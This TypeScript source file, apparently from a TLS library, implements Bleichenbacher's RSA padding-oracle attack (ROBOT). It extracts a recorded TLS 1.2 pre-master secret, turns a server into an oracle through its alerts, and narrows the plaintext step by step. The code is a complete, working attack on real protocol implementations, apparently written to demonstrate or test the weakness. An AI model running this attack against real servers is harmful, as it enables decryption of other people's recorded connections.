/**
 * Bleichenbacher's attack on RSA key transport (CRYPTO 1998), which came back as ROBOT in 2017. The attacker has recorded a connection. She asks the
 * server again and again to decrypt c s^e mod n, which is the recorded secret m multiplied by s, and all she wants to hear is whether the
 * padding was right. Each yes says that m s lies between 2B and 3B modulo n, and the intervals in which m can lie shrink to one number.
 */

import { concat } from '@cleartext/core';
import { modPow, type Int } from '@cleartext/number';
import { i2osp, modulusLength, os2ip, type RsaPublicKey } from '@cleartext/rsa';
import type { ServerStart, TlsState } from '../connection/state.ts';
import { step } from '../connection/step.ts';
import { decodeHandshake, encodeHandshake } from '../messages/handshake.ts';
import { CONTENT_TYPE, encodeRecord } from '../record/record.ts';
import { VERSION } from '../versions.ts';
import type { Sent } from './line.ts';
import { clearMessages } from './recording.ts';

/** Asks the server: sends an encrypted pre-main secret and returns the alert of its answer. */
export type PaddingOracle = (encryptedSecret: Uint8Array) => string;

/** What the attacker has found, and how much she asked for it. */
export interface BleichenbacherResult {
  /** EM = 00 02 || PS || 00 || M (RFC 8017 section 7.2.1); undefined if she gave up. */
  readonly encoded: Uint8Array | undefined;
  readonly questions: number;
}

/** The encrypted pre-main secret in a recording of TLS 1.2. */
export function recordedSecret(wire: readonly Sent[]): Uint8Array {
  for (const { from, bytes } of wire) {
    if (from !== 'client') continue;
    for (const message of clearMessages(bytes)) {
      const decoded = decodeHandshake(message, { version: VERSION.TLS12, keyExchange: 'RSA' }).message;
      if (decoded.type === 'client_key_exchange') return decoded.exchangeKeys;
    }
  }
  throw new TypeError('wire: expected a ClientKeyExchange in the clear, found none');
}

/**
 * A server as an oracle: each question is a connection of its own. The attacker sends a recorded hello, her ciphertext and a Finished that can't
 * be right, and notes the alert.
 */
export function askServer(server: ServerStart, recordedHello: Uint8Array): PaddingOracle {
  const version = VERSION.TLS12;
  const change = encodeRecord(CONTENT_TYPE.change_cipher_spec, version, Uint8Array.of(1));
  const nonsense = encodeRecord(CONTENT_TYPE.handshake, version, new Uint8Array(64));
  return (exchangeKeys) => {
    const greeted = step(server, { type: 'receive', bytes: recordedHello }).state;
    const message = { type: 'client_key_exchange', exchangeKeys } as const;
    const { bytes } = encodeHandshake(message, { version, keyExchange: 'RSA' });
    const flight = concat(encodeRecord(CONTENT_TYPE.handshake, version, bytes), change, nonsense);
    return descriptionOf(step(greeted, { type: 'receive', bytes: flight }).state);
  };
}

function descriptionOf(state: TlsState): string {
  return state.kind === 'FAILED' ? state.description : state.kind;
}

/**
 * The attack, with the numbers of the steps in the paper. `ask` is the oracle, `isConforming` says which of its answers means that the padding was
 * right. Gives up after `budget` questions.
 */
export function bleichenbacher(
  key: RsaPublicKey,
  ciphertext: Uint8Array,
  ask: PaddingOracle,
  isConforming: (alert: string) => boolean,
  budget = 100_000,
): BleichenbacherResult {
  const { n, e } = key;
  const k = modulusLength(key);
  const one = n.engine.of(1);
  const B = one.shiftLeft(8 * (k - 2));
  const [twoB, threeB] = [B.times(2), B.times(3)];
  const c = os2ip(ciphertext, n.engine);
  let questions = 0;

  const conforms = (s: Int): boolean => {
    questions++;
    return isConforming(ask(i2osp(c.times(modPow(s, e, n)).mod(n), k)));
  };
  /** The first s from `from` to `to` for which m s is conforming. */
  const search = (from: Int, to?: Int): Int | undefined => {
    for (let s = from; questions < budget && (!to || s.isAtMost(to)); s = s.plus(1)) if (conforms(s)) return s;
    return undefined;
  };

  // Step 1 (blinding) is not needed: the recorded ciphertext is conforming, so s_0 = 1.
  let M: readonly Interval[] = [{ a: twoB, b: threeB.minus(1) }];
  // Step 2.a: the first s_1 from n / 3B on.
  let s = search(ceilDivide(n, threeB));
  while (s) {
    M = narrow(M, s, n, twoB, threeB);
    const [only] = M;
    // Step 4: one number is left.
    if (M.length === 1 && only.a.equals(only.b)) return { encoded: i2osp(only.a, k), questions };
    s = M.length > 1 ? search(s.plus(1)) : searchNear(only, s, n, twoB, threeB, search, () => questions < budget);
  }
  return { encoded: undefined, questions };
}

/** Numbers from a to b, both included. */
interface Interval {
  readonly a: Int;
  readonly b: Int;
}

/** Step 2.c, with one interval left: s is looked for where m s mod n would halve it, for growing r, about two questions for each bit of m. */
function searchNear(
  { a, b }: Interval,
  last: Int,
  n: Int,
  twoB: Int,
  threeB: Int,
  search: (from: Int, to: Int) => Int | undefined,
  mayAsk: () => boolean,
): Int | undefined {
  for (let r = ceilDivide(b.times(last).minus(twoB).times(2), n); mayAsk(); r = r.plus(1)) {
    const found = search(ceilDivide(twoB.plus(r.times(n)), b), threeB.minus(1).plus(r.times(n)).dividedBy(a));
    if (found) return found;
  }
  return undefined;
}

/** Step 3: m s lies between 2B and 3B after some multiple r n was taken away; each r gives a piece of each interval. */
function narrow(M: readonly Interval[], s: Int, n: Int, twoB: Int, threeB: Int): Interval[] {
  const next: Interval[] = [];
  for (const { a, b } of M) {
    const last = b.times(s).minus(twoB).dividedBy(n);
    for (let r = ceilDivide(a.times(s).minus(threeB).plus(1), n); r.isAtMost(last); r = r.plus(1)) {
      const low = larger(a, ceilDivide(twoB.plus(r.times(n)), s));
      const high = smaller(b, threeB.minus(1).plus(r.times(n)).dividedBy(s));
      if (low.isAtMost(high)) next.push({ a: low, b: high });
    }
  }
  return merged(next);
}

/** Intervals that overlap become one. */
function merged(intervals: readonly Interval[]): Interval[] {
  const sorted = [...intervals].sort((x, y) => x.a.compare(y.a));
  const result: Interval[] = [];
  for (const interval of sorted) {
    const before = result.at(-1);
    if (before && interval.a.isAtMost(before.b))
      result[result.length - 1] = { a: before.a, b: larger(before.b, interval.b) };
    else result.push(interval);
  }
  return result;
}

function ceilDivide(x: Int, y: Int): Int {
  return x.plus(y).minus(1).dividedBy(y);
}

function larger(x: Int, y: Int): Int {
  return x.isAtLeast(y) ? x : y;
}

function smaller(x: Int, y: Int): Int {
  return x.isAtMost(y) ? x : y;
}
